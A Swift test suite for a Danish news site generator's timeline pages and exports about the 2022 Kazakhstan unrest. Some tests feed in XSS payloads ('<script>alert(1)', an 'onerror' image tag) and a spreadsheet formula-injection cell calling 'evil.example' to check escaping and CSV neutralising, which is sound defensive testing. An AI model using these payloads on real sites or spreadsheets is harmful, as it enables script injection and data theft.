import Foundation
import SiteGen
import SiteGenTestSupport
import Testing

/// The timeline as the issue describes it: pages, times, views, markers, embeds and exports.
@Suite("Timeline")
struct TimelineTests {
    /// Four events on one day in Almaty, written in file order that is not time order, plus a
    /// month-only event and one with an offset but no zone or place.
    static let events = """
        -- content/events/2022-01-05-b-stormet.md --
        ---
        title: Akimatet stormet
        date: 2022-01-05T14:00:00+06:00
        place: almaty
        sources:
          - {name: Zakon, url: "https://www.zakon.kz/", via: Reuters}
        status: unverified
        key: true
        tags: [akimat]
        ---
        Tekst om akimatet.
        -- content/events/2022-01-05-a-flammer.md --
        ---
        title: Flammer i bygningen
        date: 2022-01-05T09:00:00+01:00
        end: 2022-01-05T11:00:00+01:00
        timezone: Asia/Almaty
        place: almaty
        sources: [AFP]
        tags: [akimat]
        ---
        Tekst om flammer.
        -- content/events/2022-01-05-c-demonstration.md --
        ---
        title: Tusinder på gaden
        date: 2022-01-05
        place: almaty
        sources: [Ritzau]
        tags: [protester]
        ---
        Tekst.
        -- content/events/2022-01-05-d-samme-tid.md --
        ---
        title: Samme tid som stormen
        date: 2022-01-05T08:00:00Z
        place: almaty
        sources: [Ritzau]
        ---
        Tekst.
        -- content/events/2022-01-prisloft.md --
        ---
        title: Prisloftet fjernes
        date: 2022-01
        sources: [Ritzau]
        ---
        Tekst.
        -- content/events/2022-01-06-offset.md --
        ---
        title: Kun en forskydning
        date: 2022-01-06T10:30:00+06:00
        sources: [Ritzau]
        updated: 2022-01-06T12:00:00+06:00
        ---
        Tekst.
        """

    static func site(_ more: String = "") throws -> TestSite {
        try TestSite(Sites.archive(events + "\n" + more))
    }

    @Test func theTimelineGroupsByDayInDanishWithLocalAndDanishTimes() async throws {
        let site = try Self.site()
        try await site.build()
        let html = try site.outputText("tidslinje/")

        #expect(html.contains("<h2 id=\"d2022-01\"><time datetime=\"2022-01\">Januar 2022</time></h2>"))
        #expect(html.contains("<h2 id=\"d2022-01-05\"><time datetime=\"2022-01-05\">Onsdag den 5. januar 2022</time></h2>"))
        // One compact row per event: the local clock, the Danish time in brackets, then the place.
        let storm = try #require(html.components(separatedBy: "id=\"2022-01-05-b-stormet\">").last)
        #expect(storm.hasPrefix("\n<p class=\"clock\"><time datetime=\"2022-01-05T14:00:00+06:00\">kl. 14.00</time> <span class=\"site-clock\">(kl. 09.00 dansk tid)</span></p>"))
        // Written in Danish time, shown on Almaty's clock because of `timezone`.
        let flames = try #require(html.components(separatedBy: "id=\"2022-01-05-a-flammer\">").last)
        #expect(flames.hasPrefix("\n<p class=\"clock\"><time datetime=\"2022-01-05T14:00:00+06:00\">kl. 14.00</time> <span class=\"site-clock\">(kl. 09.00 dansk tid)</span></p>"))
        #expect(flames.components(separatedBy: "</li>")[0].contains("<span class=\"place\">Almaty</span>"))
        // An offset without a zone or place still works, as "lokal tid".
        #expect(html.contains("<time datetime=\"2022-01-06T10:30:00+06:00\">kl. 10.30 lokal tid</time> <span class=\"site-clock\">(kl. 05.30 dansk tid)</span>"))
        // A date-only event shows no clock time, and says nothing about it.
        #expect(html.contains("id=\"2022-01-05-c-demonstration\">\n<p class=\"clock\"></p>"))
        #expect(!html.contains("Uden klokkeslæt"))
        #expect(!html.contains("kl. 00.00"))
        // The status as a badge on the row; what it means once, in the legend.
        #expect(html.contains("<span class=\"badge status-unverified\">Ubekræftet</span>"))
        #expect(html.components(separatedBy: "kun én kilde, ikke uafhængigt bekræftet").count == 2, "the explanation once per page")
        #expect(html.contains("<div><dt><span class=\"badge status-unverified\">Ubekræftet</span></dt><dd>kun én kilde, ikke uafhængigt bekræftet</dd></div>"))
        #expect(html.contains("<a href=\"/kilder/#zakon\">Zakon</a> via <a href=\"/kilder/#reuters\">Reuters</a> (<a href=\"https://www.zakon.kz/\">originalen</a>)"))
        #expect(html.contains("<li class=\"event key new\" id=\"2022-01-05-b-stormet\">"), "a key moment stands out")
    }

    @Test func dateOnlyEventsComeFirstInADayAndEqualTimesKeepFileOrder() async throws {
        let site = try Self.site()
        try await site.build()
        let html = try site.outputText("tidslinje/")
        let order = ["Prisloftet fjernes", "Tusinder på gaden", "Flammer i bygningen", "Akimatet stormet", "Samme tid som stormen", "Kun en forskydning"]
        let positions = order.map { html.range(of: ">\($0)</a>")?.lowerBound }
        #expect(positions.allSatisfy { $0 != nil })
        #expect(positions.compactMap { $0 } == positions.compactMap { $0 }.sorted())
    }

    @Test func keyPlaceAndTagViewsAreStaticPages() async throws {
        let site = try Self.site()
        try await site.build()
        let key = try site.outputText("tidslinje/vigtigste/")
        #expect(key.contains(">Akimatet stormet</a>"))
        #expect(!key.contains(">Flammer i bygningen</a>"))
        #expect(key.contains("<a href=\"/tidslinje/vigtigste/\" aria-current=\"page\">Kun de vigtigste</a>"))

        let place = try site.outputText("tidslinje/sted/almaty/")
        #expect(place.contains("<h1>Tidslinje: Almaty</h1>"))
        #expect(place.contains(">Tusinder på gaden</a>"))
        #expect(!place.contains(">Kun en forskydning</a>"))

        let tag = try site.outputText("tidslinje/emne/akimat/")
        #expect(tag.contains(">Flammer i bygningen</a>") && tag.contains(">Akimatet stormet</a>"))
        #expect(!tag.contains(">Tusinder på gaden</a>"))
        #expect(!tag.contains("<script"), "the timeline works without JavaScript")
    }

    @Test func newSinceMarksEventsChangedInTheDayBeforeTheBuildTime() async throws {
        let site = try Self.site()
        // The default build time is the newest content date: the `updated` of the offset event,
        // 2022-01-06 06:00 UTC; the storm (2022-01-05 08:00 UTC) is 22 hours older, the month older still.
        try await site.build()
        var html = try site.outputText("tidslinje/")
        #expect(html.contains("<li class=\"event new\" id=\"2022-01-06-offset\">"))
        #expect(html.contains("<li class=\"event key new\" id=\"2022-01-05-b-stormet\">"))
        #expect(html.contains("<li class=\"event\" id=\"2022-01-prisloft\">"))

        var options = site.options()
        options.now = try ContentDate.parse("2022-01-05T20:00:00+01:00").get()
        _ = try await SiteBuilder.build(options)
        html = try site.outputText("tidslinje/")
        #expect(html.contains("<li class=\"event key new\" id=\"2022-01-05-b-stormet\">"))
        // A date without a time counts from midnight on the readers' clock: 20 hours before.
        #expect(html.contains("<li class=\"event new\" id=\"2022-01-05-c-demonstration\">"))
        #expect(html.contains("<li class=\"event\" id=\"2022-01-06-offset\">"), "an event after the build time is not new")
        #expect(html.contains("<span class=\"badge badge-new\">Nyt</span>"))
        #expect(html.contains("<dd>tilføjet eller ændret inden for 1 døgn før seneste opdatering</dd>"), "the legend says what new means")
    }

    @Test func anEventPageHasPlaceSourcesNeighboursAndEscapedJSONLD() async throws {
        let site = try Self.site("""
            -- content/events/2022-01-05-e-skript.md --
            ---
            title: "</script><script>alert(1)</script>"
            date: 2022-01-05T15:00:00+06:00
            end: 2022-01-05T16:00:00+06:00
            place: almaty
            sources: [Ritzau]
            ---
            Tekst.
            """)
        try await site.build()
        let html = try site.outputText("tidslinje/2022-01-05-b-stormet/")
        #expect(html.contains("<dt>Sted</dt><dd><a href=\"/kort/almaty/\">Almaty</a></dd>"))
        #expect(html.contains("rel=\"prev\">Flammer i bygningen</a>"))
        let flames = try site.outputText("tidslinje/2022-01-05-a-flammer/")
        #expect(flames.contains("kl. 14.00 i Almaty (kl. 09.00 dansk tid)</time> – <time datetime=\"2022-01-05T16:00:00+06:00\">onsdag den 5. januar 2022, kl. 16.00 i Almaty (kl. 11.00 dansk tid)</time>"))
        #expect(html.contains("rel=\"next\">Samme tid som stormen</a>"))
        let jsonLD = try #require(html.lines(containing: "application/ld+json").first)
        #expect(jsonLD.contains("\"@type\":\"Event\""))
        #expect(jsonLD.contains("\"location\":{\"@type\":\"Place\",\"geo\":{\"@type\":\"GeoCoordinates\",\"latitude\":43.25,\"longitude\":76.92},\"name\":\"Almaty\"}"))
        #expect(jsonLD.contains("\"startDate\":\"2022-01-05T14:00:00+06:00\""))

        let escaped = try site.outputText("tidslinje/2022-01-05-e-skript/")
        #expect(escaped.components(separatedBy: "</script>").count == 2, "only the JSON-LD element's own end tag")
        let script = try #require(escaped.lines(containing: "application/ld+json").first)
        let json = String(script.dropFirst("<script type=\"application/ld+json\">".count).dropLast("</script>".count))
        let object = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
        #expect(object["name"] as? String == "</script><script>alert(1)</script>")
        #expect(object["endDate"] as? String == "2022-01-05T16:00:00+06:00")
    }

    @Test func anEmbeddedTimelineShowsTheFilteredEvents() async throws {
        let site = try Self.site("""
            -- content/articles/stormen.md --
            ---
            title: Stormen på akimatet
            date: 2022-01-05T18:00:00+01:00
            ---
            Før.

            ```timeline
            tags: [akimat, protester]
            from: 2022-01-05
            to: 2022-01-05
            limit: 2
            ```

            > ```timeline
            > key: true
            > ```

            Efter.
            """)
        try await site.build()
        let html = try site.outputText("artikler/stormen/")
        let sections = html.components(separatedBy: "<section class=\"embedded-timeline\"").dropFirst()
        try #require(sections.count == 2)
        let first = String(sections.first!.prefix { $0 != "§" }).components(separatedBy: "</section>")[0]
        // The latest two of three matches, oldest first.
        #expect(!first.contains("Tusinder på gaden"))
        #expect(first.range(of: "Flammer i bygningen")!.lowerBound < first.range(of: "Akimatet stormet")!.lowerBound)
        let second = sections.last!.components(separatedBy: "</section>")[0]
        #expect(second.contains("Akimatet stormet") && !second.contains("Flammer i bygningen"))
        #expect(html.contains("<p class=\"more\"><a href=\"/tidslinje/\">Se hele tidslinjen</a></p>"))
        #expect(!html.contains("language-timeline"))
    }

    @Test func theTimelineJSExportHasTheFieldsTimelineJS3Requires() async throws {
        let site = try Self.site()
        try await site.build()
        let text = try site.outputText("tidslinje.json")
        let root = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
        // TimelineJS3's JSON format: `events` is required, each slide needs a `start_date` with a
        // numeric `year`; `title` is a slide without a date; ids are unique strings.
        let events = try #require(root["events"] as? [[String: Any]])
        #expect(events.count == 6)
        for event in events {
            let start = try #require(event["start_date"] as? [String: Any])
            #expect(start["year"] is Int)
            for key in start.keys { #expect(["year", "month", "day", "hour", "minute"].contains(key)) }
            let text = try #require(event["text"] as? [String: Any])
            #expect(text["headline"] is String)
            #expect(event["unique_id"] is String)
        }
        #expect(Set(events.compactMap { $0["unique_id"] as? String }).count == events.count)
        let title = try #require(root["title"] as? [String: Any])
        #expect((title["text"] as? [String: Any])?["headline"] as? String == "Uroen i Kasakhstan")
        #expect(title["start_date"] == nil)

        let storm = try #require(events.first { $0["unique_id"] as? String == "2022-01-05-b-stormet" })
        #expect(storm["start_date"] as? [String: Int] == ["year": 2022, "month": 1, "day": 5, "hour": 14, "minute": 0])
        #expect(storm["display_date"] as? String == "onsdag den 5. januar 2022, kl. 14.00 i Almaty (kl. 09.00 dansk tid)")
        #expect(storm["group"] as? String == "akimat")
        let month = try #require(events.first { $0["unique_id"] as? String == "2022-01-prisloft" })
        #expect(month["start_date"] as? [String: Int] == ["year": 2022, "month": 1])
        let flames = try #require(events.first { $0["unique_id"] as? String == "2022-01-05-a-flammer" })
        #expect(flames["end_date"] as? [String: Int] == ["year": 2022, "month": 1, "day": 5, "hour": 16, "minute": 0], "on Almaty's clock")
    }

    @Test func theCSVFollowsTheSpreadsheetTemplateAndRFC4180() async throws {
        let site = try Self.site("""
            -- content/events/2022-01-07-citat.md --
            ---
            title: 'Tokajev: "Terrorister", siger han'
            date: 2022-01-07
            sources: [Ritzau]
            ---
            Første afsnit.

            Andet afsnit.
            -- content/events/2022-01-08-link.md --
            ---
            title: Med link
            date: 2022-01-08
            sources: [Ritzau]
            ---
            Se [tidslinjen](/tidslinje/).
            """)
        try await site.build()
        let csv = try site.outputText("tidslinje.csv")
        let lines = csv.components(separatedBy: "\r\n")
        #expect(lines[0] == "Year,Month,Day,Time,End Year,End Month,End Day,End Time,Display Date,Headline,Text,Media,Media Credit,Media Caption,Media Thumbnail,Type,Group,Background")
        #expect(lines[1].hasPrefix(",,,,,,,,,Uroen i Kasakhstan,"))
        #expect(lines[1].hasSuffix(",,,,,title,,"))
        #expect(csv.contains("2022,1,5,14:00,,,,,\"onsdag den 5. januar 2022, kl. 14.00 i Almaty (kl. 09.00 dansk tid)\",Akimatet stormet,"))
        #expect(csv.contains("2022,1,7,,,,,,fredag den 7. januar 2022,\"Tokajev: &quot;Terrorister&quot;, siger han\",\"<p>Første afsnit.</p>\n<p>Andet afsnit.</p>\n\",,,,,,,\r\n"))
        #expect(csv.hasSuffix("\r\n"))
        // Read on other sites, so links carry the whole address.
        #expect(csv.contains("\"<p>Se <a href=\"\"https://example.org/tidslinje/\"\">tidslinjen</a>.</p>\n\""))
    }

    @Test func cellsThatASpreadsheetWouldRunAsFormulasAreText() async throws {
        let site = try Self.site("""
            -- content/events/2022-01-07-formel.md --
            ---
            title: '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
            date: 2022-01-07
            sources: [Ritzau]
            tags: ["@SUM(A1:A9)"]
            ---
            Tekst.
            -- content/events/2022-01-08-minus.md --
            ---
            title: -5 grader i Astana
            date: 2022-01-08
            sources: [Ritzau]
            tags: [+kulde]
            ---
            Tekst.
            """)
        try await site.build()
        let cells = try site.outputText("tidslinje.csv").components(separatedBy: "\r\n").flatMap { $0.components(separatedBy: ",") }
        #expect(cells.filter { "=+-@".contains($0.first ?? " ") } == [])
        let csv = try site.outputText("tidslinje.csv")
        #expect(csv.contains(",\"'=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1"))
        #expect(csv.contains(",'@SUM(A1:A9),"))
        #expect(csv.contains(",'-5 grader i Astana,"))
        #expect(csv.contains(",'+kulde,"))
    }

    @Test func theTimelineJSGroupIsEscapedLikeItsOtherHTML() async throws {
        let site = try Self.site("""
            -- content/events/2022-01-07-gruppe.md --
            ---
            title: Gruppe
            date: 2022-01-07
            sources: [Ritzau]
            tags: ["<img src=x onerror=alert(1)>"]
            ---
            Tekst.
            """)
        try await site.build()
        let text = try site.outputText("tidslinje.json")
        let root = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
        let events = try #require(root["events"] as? [[String: Any]])
        let slide = try #require(events.first { $0["unique_id"] as? String == "2022-01-07-gruppe" })
        #expect(slide["group"] as? String == "&lt;img src=x onerror=alert(1)&gt;")
        #expect(try site.outputText("tidslinje.csv").contains(",&lt;img src=x onerror=alert(1)&gt;,"))
    }

    @Test func theEventsFeedListsEventsNewestFirst() async throws {
        let site = try Self.site("""
            -- content/articles/artikel.md --
            ---
            title: En artikel
            date: 2022-01-05T18:00:00+01:00
            ---
            Tekst.
            """)
        try await site.build()
        let feed = try site.outputText("tidslinje/feed.xml")
        #expect(!feed.contains("En artikel"))
        #expect(feed.contains("<link rel=\"self\" type=\"application/atom+xml\" href=\"https://example.org/tidslinje/feed.xml\"/>"))
        #expect(feed.contains("  <updated>2022-01-06T12:00:00+06:00</updated>\n"))
        let titles = feed.lines(containing: "<title>").map { $0.trimmingCharacters(in: .whitespaces) }
        #expect(titles.first == "<title>Uroen i Kasakhstan: tidslinje</title>")
        #expect(titles.dropFirst().first == "<title>Kun en forskydning</title>")
        #expect(titles.count == 7)
    }
}
